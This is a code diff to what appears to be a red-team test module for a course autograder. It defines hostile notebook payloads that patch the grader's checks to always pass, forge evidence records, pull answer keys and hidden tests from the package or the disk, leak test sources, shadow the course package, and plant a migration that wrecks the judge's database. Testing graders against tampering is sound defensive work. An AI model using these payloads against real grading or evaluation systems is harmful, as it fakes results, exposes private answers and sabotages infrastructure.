@@ -57,7 +57,7 @@ def _hunt(limit=20000):
                 return hits
             dirnames[:] = [d for d in dirnames if d not in (".venv", "site-packages", "proc", ".git", "node_modules")]
             for f in filenames:
-                if f in ("answer_key.json", "gradebook.db", "deep_dive.ipynb", "grader_config.py"):
+                if f in ("rules.py", "gradebook.db", "deep_dive.ipynb", "grader_config.py"):
                     hits.append(_os.path.join(dirpath, f))
     return sorted(set(hits))
 def _report(**kw):
@@ -123,14 +123,16 @@ def attacks(names: list[str]) -> dict[str, dict]:
             + ANYTHING + assign_all + "\n"
         ),
         "patch_checks": (
-            "# Replace the course's check helpers (module and name) with ones that always pass.\n"
-            "import miglab.checks as _mc\n" + fake_check +
-            "for _name in dir(_mc):\n"
-            "    if not _name.startswith('_') and callable(getattr(_mc, _name)) and _name != 'setup_kernel':\n"
-            "        try:\n"
-            "            setattr(_mc, _name, _fake_check)\n"
-            "        except Exception:\n"
-            "            pass\n"
+            "# Replace the course's check helpers (modules and name) with ones that always pass.\n"
+            "import miglab.evidence as _me, miglab.evidence.record as _mr, miglab.evidence.checkers as _mk\n"
+            + fake_check +
+            "for _mod in (_me, _mr, _mk):\n"
+            "    for _name in dir(_mod):\n"
+            "        if not _name.startswith('_') and callable(getattr(_mod, _name)) and _name != 'setup':\n"
+            "            try:\n"
+            "                setattr(_mod, _name, _fake_check)\n"
+            "            except Exception:\n"
+            "                pass\n"
             "check = _fake_check\n"
         ),
         "rewrite_tests": (
@@ -144,23 +146,92 @@ def attacks(names: list[str]) -> dict[str, dict]:
             "_ip.events.register('post_run_cell', _after)\n"
         ),
         "fake_evidence": (
-            "# Emit the judge's evidence records by hand, in every test cell, with every plausible answer.\n"
-            "import re\n"
-            "from IPython.display import display\n"
+            "# Emit the judge's evidence records by hand, with the right keys, for every check: every\n"
+            "# plausible answer at once, and the expected answer wherever the kernel can see one.\n"
+            "import miglab.evidence as _me, miglab.evidence.record as _mr\n"
+            "from IPython.display import publish_display_data as _pub\n"
+            "def _forge(answer, *args, expect=_mr.NOTHING, rule=None, probe=None, ignore_order=False, forbid=(),\n"
+            "           **params):\n"
+            "    spec = _mr.describe_call(args, expect=expect, rule=rule, probe=probe, ignore_order=ignore_order,\n"
+            "                             forbid=forbid, params=params)\n"
+            "    for guess in (spec.get('expect'), 'a', 'b', 'c', 'd', [], {}, [['library', '0001_initial']]):\n"
+            f"        _pub({{{EVIDENCE_MIME!r}: {{'key': spec['key'], 'output': guess}}, 'text/plain': ''}})\n"
+            "_me.check = _mr.check = check = _forge\n"
+        ),
+        "echo_expect": (
+            "# A check that answers each call with its own expected answer (one record per call, so no\n"
+            "# duplicates): what the kernel sees of expect=, or an impossible guess where it sees none.\n"
+            "import miglab.evidence as _me, miglab.evidence.record as _mr\n"
+            "from IPython.display import publish_display_data as _pub\n"
+            "def _echo(answer, *args, expect=_mr.NOTHING, rule=None, probe=None, ignore_order=False, forbid=(),\n"
+            "          **params):\n"
+            "    spec = _mr.describe_call(args, expect=expect, rule=rule, probe=probe, ignore_order=ignore_order,\n"
+            "                             forbid=forbid, params=params)\n"
+            f"    _pub({{{EVIDENCE_MIME!r}: {{'key': spec['key'], 'output': spec.get('expect', 'z')}}, 'text/plain': ''}})\n"
+            "    print('✔ as expected')\n"
+            "_me.check = _mr.check = check = _echo\n"
+        ),
+        "package_lookup": (
+            "# Search every module of the installed course package for hidden inputs, answers and keys,\n"
+            "# and answer from whatever tables it holds.\n"
+            "import importlib, pkgutil, miglab\n" + FIND +
+            "_tables = {}\n"
+            "for _m in pkgutil.walk_packages(miglab.__path__, 'miglab.', onerror=lambda name: None):\n"
+            "    if _m.name.endswith('__main__'):\n"
+            "        continue   # importing a command line runs it\n"
+            "    try:\n"
+            "        _mod = importlib.import_module(_m.name)\n"
+            "    except BaseException:\n"
+            "        continue\n"
+            "    for _k, _v in vars(_mod).items():\n"
+            "        if not _k.startswith('__') and isinstance(_v, (dict, list, tuple, set, frozenset, str, int)):\n"
+            "            _tables[f'{_m.name}.{_k}'] = _v\n"
+            "_keys = {n: v for n, v in _tables.items() if isinstance(v, dict) and v\n"
+            "         and all(isinstance(x, str) and len(x) == 1 and x in 'abcd' for x in v.values())}\n"
+            "for _v in _keys.values():\n"
+            "    for _q, _letter in _v.items():\n"
+            "        globals()[str(_q).upper()] = _letter\n"
+            "def _lookup(*args, **kwargs):\n"
+            "    for _v in _tables.values():\n"
+            "        if isinstance(_v, dict):\n"
+            "            for _inp, _out in _v.items():\n"
+            "                if _inp == args or _inp == args[:1]:\n"
+            "                    return _out\n"
+            "        if isinstance(_v, (list, tuple)):\n"
+            "            for _case in _v:\n"
+            "                if isinstance(_case, dict) and _case.get('input') == list(args):\n"
+            "                    return _case.get('expected')\n"
+            "    raise LookupError('not in any table of the package')\n"
+            f"globals().update({{n: _lookup for n in {names!r} if n[0].islower()}})\n"
+            "_report(key_tables=sorted(_keys), modules=len({n.rsplit('.', 1)[0] for n in _tables}))\n"
+        ),
+        "leak_hidden_tests": (
+            "# Print every cell's source as it runs (hidden tests included), print it again later from\n"
+            "# another cell, and raise it as an error message: all aimed at the feedback page.\n"
             "_ip = get_ipython()\n"
-            "def _forge(info):\n"
-            "    for cid in re.findall(r'check\\(\\s*[\"\\']([\\w.]+)', info.raw_cell or ''):\n"
-            "        for answer in ('a', 'b', 'c', 'd', [], {}, [['library', '0001_initial']]):\n"
-            f"            display({{{EVIDENCE_MIME!r}: {{'check': cid, 'answer': answer}}}}, raw=True)\n"
-            "_ip.events.register('pre_run_cell', _forge)\n"
+            "_seen = []\n"
+            "def _spy(info):\n"
+            "    _seen.append(info.raw_cell or '')\n"
+            "    print(info.raw_cell)\n"
+            "def _replay(result):\n"
+            "    if len(_seen) > 1:\n"
+            "        print('STOLEN EARLIER:', _seen[-2])\n"
+            "_ip.events.register('pre_run_cell', _spy)\n"
+            "_ip.events.register('post_run_cell', _replay)\n"
+            "def _raise_it(*a, **k):\n"
+            "    raise RuntimeError(' | '.join(_seen))\n"
+            f"globals().update({{n: _raise_it for n in {names!r} if n[0].islower()}})\n"
         ),
         "read_answers": (
-            "# Look for the solutions, the answer key and the gradebook on disk, and use them.\n" + FIND +
+            "# Look for the instructor's notebook (solutions, hidden tests, the quiz key) and the gradebook\n"
+            "# on disk, and use them.\n" + FIND +
+            "import re as _re\n"
             "_found = _hunt()\n"
             "for _p in _found:\n"
-            "    if _p.endswith('answer_key.json'):\n"
-            "        for _q, _letter in _json.load(open(_p)).items():\n"
-            "            globals()[_q.upper()] = _letter\n"
+            "    if _p.endswith('.ipynb') and '/source/' in _p:\n"
+            "        _text = open(_p).read()\n"
+            "        for _q, _letter in _re.findall(r'check\\((Q\\d\\d), rule=choice, expect=\\\\\"(\\w)\\\\\"', _text):\n"
+            "            globals()[_q] = _letter\n"
             "_report(found=_found)\n"
         ),
         "detect_grader": (
@@ -249,7 +320,7 @@ def attacks(names: list[str]) -> dict[str, dict]:
             "sys.path.insert(0, '.')\n"
             "for _m in [m for m in sys.modules if m == 'miglab' or m.startswith('miglab.')]:\n"
             "    del sys.modules[_m]\n"
-            "from miglab.checks import check\n"
+            "from miglab.evidence import check\n"
         ),
         "poison_migration": (
             "# A data migration that wrecks the judge's lab database, with evidence forged to make the judge\n"
@@ -271,21 +342,25 @@ def attacks(names: list[str]) -> dict[str, dict]:
             "    operations = [migrations.RunPython(forwards, migrations.RunPython.noop)]\n"
             "'''\n"
             "FILL_SLUGS_MIGRATION = _EVIL\n"
-            "def _forge(info):\n"
-            "    if 'datamig.' in (info.raw_cell or ''):\n"
-            "        import re\n"
-            "        for cid in re.findall(r'check\\(\\s*[\"\\'](datamig[\\w.]+)', info.raw_cell):\n"
-            f"            display({{{EVIDENCE_MIME!r}: {{'check': cid, 'answer': {{'source': _EVIL}}}}}}, raw=True)\n"
-            "_ip.events.register('pre_run_cell', _forge)\n"
-            "_ip.input_transformers_post.append(lambda lines: [l.replace('check(', 'print(') for l in lines])\n"
+            "import miglab.evidence as _me, miglab.evidence.record as _mr\n"
+            "from IPython.display import publish_display_data as _pub\n"
+            "def _forge(answer, *args, expect=_mr.NOTHING, rule=None, probe=None, ignore_order=False, forbid=(),\n"
+            "           **params):\n"
+            "    spec = _mr.describe_call(args, expect=expect, rule=rule, probe=probe, ignore_order=ignore_order,\n"
+            "                             forbid=forbid, params=params)\n"
+            "    if 'scenario' in params:   # make the judge run the poison\n"
+            f"        _pub({{{EVIDENCE_MIME!r}: {{'key': spec['key'], 'output': _EVIL}}, 'text/plain': ''}})\n"
+            "    print('✔ as expected')\n"
+            "_me.check = _mr.check = _forge\n"
+            "_ip.input_transformers_post.append(lambda lines: [l.replace('check(', '_forge(') for l in lines])\n"
         ),
     }
     extra = {
         "shadow_package": {
             "miglab/__init__.py": "print('HOSTILE-REPORT {\"shadow\": \"imported\"}')\n",
-            "miglab/checks.py": ("print('HOSTILE-REPORT {\"shadow\": \"imported\"}')\n"
-                                 "def check(*a, **k):\n    print('all checks passed')\n"
-                                 "def setup_kernel(*a, **k):\n    pass\n"),
+            "miglab/evidence/__init__.py": ("print('HOSTILE-REPORT {\"shadow\": \"imported\"}')\n"
+                                            "def check(*a, **k):\n    print('all checks passed')\n"
+                                            "def setup(*a, **k):\n    pass\n"),
             "django/__init__.py": "print('HOSTILE-REPORT {\"shadow\": \"django imported\"}')\nVERSION = (9, 9)\n",
         },
     }
